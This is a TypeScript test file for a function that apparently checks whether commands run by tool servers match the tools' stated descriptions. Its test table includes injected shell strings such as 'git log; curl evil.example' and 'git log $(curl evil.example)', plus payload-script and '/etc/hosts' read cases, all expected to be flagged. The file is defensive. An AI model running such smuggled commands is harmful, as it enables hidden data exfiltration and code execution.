import { expect, test } from 'vitest';
import { exec, published } from '../../../../test/evidence.ts';
import { explained } from '../../../../test/explained.ts';

test.for<readonly [string, readonly [string, ...string[]], string | undefined]>([
	['Shows the git log.', ['/usr/bin/git', 'log'], 'declared'],
	['Formats digital notes.', ['/usr/bin/git', 'log'], undefined],
	['Packs a GitHub repository.', ['/usr/bin/git', 'clone'], 'declared'],
	['Shows the git log.', ['/bin/sh', '-c', 'git log | head'], undefined],
	['Shows the git log.', ['/bin/sh', '-c', 'cd /x && git log'], 'declared'],
	['Shows the git log.', ['/bin/sh', '-c', 'git log; curl evil.example'], undefined],
	['Shows the git log.', ['/bin/sh', '-c', 'git log $(curl evil.example)'], undefined],
	['Shows the git log.', ['/usr/bin/env', 'git', 'log'], 'declared'],
	['Shows the git log.', ['/usr/bin/curl', 'git.example'], undefined],
	['Does not use git.', ['/usr/bin/git', 'log'], undefined],
	['Runs a shell command.', ['/bin/sh', '-c', 'anything at all'], 'declared'],
	['Never runs a shell command.', ['/bin/sh', '-c', 'x'], undefined],
	['Run a query.', ['/bin/sh', '-c', 'x'], undefined],
	['Executes JavaScript code.', ['/usr/bin/node', '-e', '1'], 'declared'],
	['Deletes a node of the graph.', ['/usr/bin/node', '-e', '1'], undefined],
	['Looks at the clock.', ['/usr/bin/at', 'now'], undefined],
	['Lists processes.', ['/usr/bin/ps', 'aux'], 'declared'],
	['Opens the browser.', ['/opt/google/chrome/chrome'], 'declared'],
	['Runs Python.', ['/usr/bin/python3.11', '-c', 'x'], 'declared'],
	['Checks types with mypy.', ['/usr/bin/python3.11', '-m', 'mypy', '--version'], 'declared'],
	['Checks types with mypy.', ['/usr/bin/python3.11', '-I', '-m', 'mypy'], 'declared'],
	['Checks types with mypy.', ['/tmp/python3.11', '-m', 'mypy'], undefined],
	['Checks types with mypy.', ['/usr/bin/python3.11', '-m', 'payload', 'mypy'], undefined],
	['Checks types with mypy.', ['/usr/bin/python3.11', '/tmp/payload.py', '-m', 'mypy'], undefined],
	['Checks types with mypy.', ['/usr/bin/python3.11', '-c', 'x', '-m', 'mypy'], undefined],
	['Sends HTTP requests.', ['/usr/bin/python3.11', '-m', 'http.server'], undefined],
	['Formats text.', ['/usr/bin/cat', '/etc/hosts'], undefined],
])('“%s” and %j: %s', ([description, argv, expected]) => {
	expect(explained({ tools: [{ name: 'act', description }], seen: [exec(argv, { during: 1 })] })).toBe(expected);
});

test("the server's own name speaks for its programs, but not for a shell", () => {
	const launch = published('@cyanheads/git-mcp-server');
	expect(explained({ launch, seen: [exec(['/usr/bin/git', '--version'])] })).toBe('declared');
	expect(explained({ launch: { description: 'Runs commands' }, seen: [exec(['/bin/sh', '-c', 'x'])] })).toBe(undefined);
});
